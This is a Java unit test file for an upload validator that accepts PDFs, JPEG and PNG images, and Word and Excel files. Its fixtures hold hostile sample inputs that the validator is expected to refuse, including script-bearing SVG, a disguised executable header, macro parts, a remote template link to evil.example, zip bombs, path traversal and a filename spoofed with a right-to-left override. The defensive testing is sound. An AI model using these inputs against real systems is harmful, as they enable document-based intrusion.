package kz.birlese.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.junit.jupiter.api.Test;
import org.springframework.boot.context.properties.bind.Binder;
import org.springframework.boot.context.properties.source.MapConfigurationPropertySource;
import org.springframework.util.unit.DataSize;

/** Files come in by what is inside. */
class FileCheckTest {

    private static final int MEGABYTE = 1024 * 1024;

    private final FileLimits usual =
            new Binder(new MapConfigurationPropertySource()).bindOrCreate("birlese.files", FileLimits.class);
    private final FileCheck check = new FileCheck(usual);

    @Test
    void theFiveKindsComeIn() throws IOException {
        assertThat(check.typeOf("план.pdf", pdf())).isEqualTo("application/pdf");
        assertThat(check.typeOf("C:\\фото\\дүкен.JPG", picture("jpg"))).isEqualTo("image/jpeg");
        assertThat(check.typeOf("photo.jpeg", picture("jpg"))).isEqualTo("image/jpeg");
        assertThat(check.typeOf("photo.png", picture("png"))).isEqualTo("image/png");
        assertThat(check.typeOf("plan.docx", office("word/document.xml", Map.of())))
                .isEqualTo(OfficeCheck.WORD);
        assertThat(check.typeOf("budget.xlsx", office("xl/workbook.xml", Map.of())))
                .isEqualTo(OfficeCheck.EXCEL);
    }

    @Test
    void theUsualLimitsAreTheseUnlessTheHouseIsToldOthers() {
        assertThat(usual)
                .isEqualTo(new FileLimits(DataSize.ofMegabytes(10), 100, DataSize.ofMegabytes(100), 100, 200_000_000));
    }

    @Test
    void anEmptyFileIsRefused() {
        refused("fileEmpty", "plan.pdf", new byte[0]);
    }

    @Test
    void oneByteOverTheLimitIsRefusedAndTheLimitItselfIsNot() throws IOException {
        assertThat(check.typeOf("plan.pdf", Arrays.copyOf(pdf(), 10 * MEGABYTE)))
                .isEqualTo("application/pdf");
        Refusal refusal = refused("fileTooLarge", "plan.pdf", Arrays.copyOf(pdf(), 10 * MEGABYTE + 1));
        assertThat(refusal.reasons().get(0).facts())
                .containsEntry("found", 10.1)
                .containsEntry("needed", 10.0);
    }

    @Test
    void otherKindsAreRefusedWhateverIsInside() throws IOException {
        for (String name :
                new String[] {"a.exe", "a.svg", "a.html", "a.docm", "a.doc", "a.zip", "pdf", "a.pdf.exe", ""}) {
            refused("fileTypeNotAllowed", name, pdf());
        }
    }

    @Test
    void aRenamedFileIsRefused() throws IOException {
        byte[] script = "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>".getBytes(StandardCharsets.UTF_8);
        byte[] program = {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0};
        for (String name : new String[] {"a.pdf", "a.jpg", "a.png", "a.docx", "a.xlsx"}) {
            refused("fileNotWhatItSays", name, script);
            refused("fileNotWhatItSays", name, program);
        }
        refused("fileNotWhatItSays", "a.pdf", picture("png"));
        refused("fileNotWhatItSays", "a.xlsx", office("word/document.xml", Map.of()));
        refused("fileNotWhatItSays", "a.docx", zip(Map.of("a.txt", "no document")));
    }

    @Test
    void aPdfThatBeginsFurtherDownIsRefused() throws IOException {
        byte[] page = "<html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8);
        byte[] both = Arrays.copyOf(page, page.length + pdf().length);
        System.arraycopy(pdf(), 0, both, page.length, pdf().length);
        refused("fileNotWhatItSays", "a.pdf", both);
    }

    @Test
    void programsInsideADocumentAreRefused() throws IOException {
        refused("fileHoldsPrograms", "a.docx", office("word/document.xml", Map.of("word/vbaProject.bin", "x")));
        refused("fileHoldsPrograms", "a.xlsx", office("xl/workbook.xml", Map.of("xl/embeddings/ole.bin", "x")));
        refused(
                "fileHoldsPrograms",
                "a.docx",
                zip(Map.of(
                        "[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
                        "word/document.xml", "<w/>")));
        refused(
                "fileHoldsPrograms",
                "a.docx",
                office(
                        "word/document.xml",
                        Map.of(
                                "word/_rels/settings.xml.rels",
                                "Type=\".../attachedTemplate\" Target=\"http://evil.example/x.dotm\"")));
    }

    @Test
    void aZipBombIsRefusedBeforeItIsUnpacked() throws IOException {
        String zeros = "0".repeat(30 * MEGABYTE);
        refused("fileArchiveSuspicious", "a.docx", office("word/document.xml", Map.of("word/bomb.xml", zeros)));
        refused("fileArchiveSuspicious", "a.docx", office("word/document.xml", Map.of("../outside", "x")));
    }

    @Test
    void anArchiveHoldsAtMostAHundredFiles() throws IOException {
        assertThat(check.typeOf("a.docx", officeOfParts(100))).isEqualTo(OfficeCheck.WORD);
        refused("fileArchiveSuspicious", "a.docx", officeOfParts(101));
    }

    /** The two parts every document has count too. */
    private static byte[] officeOfParts(int count) throws IOException {
        Map<String, String> more = new TreeMap<>();
        for (int number = 2; number < count; number++) {
            more.put("word/part" + number, "x");
        }
        return office("word/document.xml", more);
    }

    @Test
    void anArchiveUnpacksToAtMostAHundredTimesItsSize() throws IOException {
        int parts = "<Types/>".length() + "<document/>".length();
        int size = 50_000;
        byte[] document = office("word/document.xml", Map.of("word/flat.xml", "0".repeat(100 * size - parts)));
        assertThat(document.length).isLessThan(size);
        assertThat(check.typeOf("a.docx", Arrays.copyOf(document, size))).isEqualTo(OfficeCheck.WORD);
        refused("fileArchiveSuspicious", "a.docx", Arrays.copyOf(document, size - 1));
    }

    @Test
    void anArchiveUnpacksToAtMostAHundredMegabytes() throws IOException {
        int parts = "<Types/>".length() + "<document/>".length();
        byte[] exact = office("word/document.xml", Map.of("word/flat.xml", "0".repeat(100 * MEGABYTE - parts)));
        byte[] over = office("word/document.xml", Map.of("word/flat.xml", "0".repeat(100 * MEGABYTE - parts + 1)));
        assertThat(check.typeOf("a.docx", Arrays.copyOf(exact, 2 * MEGABYTE))).isEqualTo(OfficeCheck.WORD);
        refused("fileArchiveSuspicious", "a.docx", Arrays.copyOf(over, 2 * MEGABYTE));
    }

    @Test
    void aDamagedFileIsRefused() throws IOException {
        byte[] half = office("word/document.xml", Map.of("word/styles.xml", "<styles/>".repeat(100)));
        refused("fileDamaged", "a.docx", Arrays.copyOf(half, half.length / 3));
        refused("fileDamaged", "a.png", Arrays.copyOf(picture("png"), 12));
    }

    @Test
    void aPictureThatWouldFillTheMemoryIsRefused() throws IOException {
        byte[] huge = picture("png");
        // The header's width and height: four bytes each, from the sixteenth on.
        huge[16] = 0;
        huge[17] = 1;
        huge[20] = 0;
        huge[21] = 1;
        refused("pictureTooLarge", "a.png", huge);
    }

    @Test
    void theNameIsKeptWithoutFoldersAndControlCharacters() {
        assertThat(FileCheck.plainName("../../etc/жоспар.pdf")).isEqualTo("жоспар.pdf");
        assertThat(FileCheck.plainName("C:\\Users\\a\\b.pdf")).isEqualTo("b.pdf");
        assertThat(FileCheck.plainName("a\u202efdp.exe\r\n")).isEqualTo("afdp.exe");
        assertThat(FileCheck.plainName("x".repeat(300) + ".pdf")).hasSize(200).endsWith(".pdf");
    }

    private Refusal refused(String rule, String name, byte[] content) {
        Refusal refusal = catchThrowableOfType(Refusal.class, () -> check.typeOf(name, content));
        assertThat(refusal).as("%s should be refused", name).isNotNull();
        assertThat(refusal.reasons()).as(name).extracting(Refusal.Reason::rule).containsExactly(rule);
        return refusal;
    }

    private static byte[] pdf() throws IOException {
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            ByteArrayOutputStream content = new ByteArrayOutputStream();
            document.save(content);
            return content.toByteArray();
        }
    }

    private static byte[] picture(String format) throws IOException {
        ByteArrayOutputStream content = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(20, 10, BufferedImage.TYPE_INT_RGB), format, content);
        return content.toByteArray();
    }

    private static byte[] office(String mainPart, Map<String, String> more) throws IOException {
        Map<String, String> parts = new TreeMap<>(more);
        parts.put("[Content_Types].xml", "<Types/>");
        parts.put(mainPart, "<document/>");
        return zip(parts);
    }

    private static byte[] zip(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream content = new ByteArrayOutputStream();
        try (ZipOutputStream archive = new ZipOutputStream(content)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                archive.putNextEntry(new ZipEntry(part.getKey()));
                archive.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return content.toByteArray();
    }
}
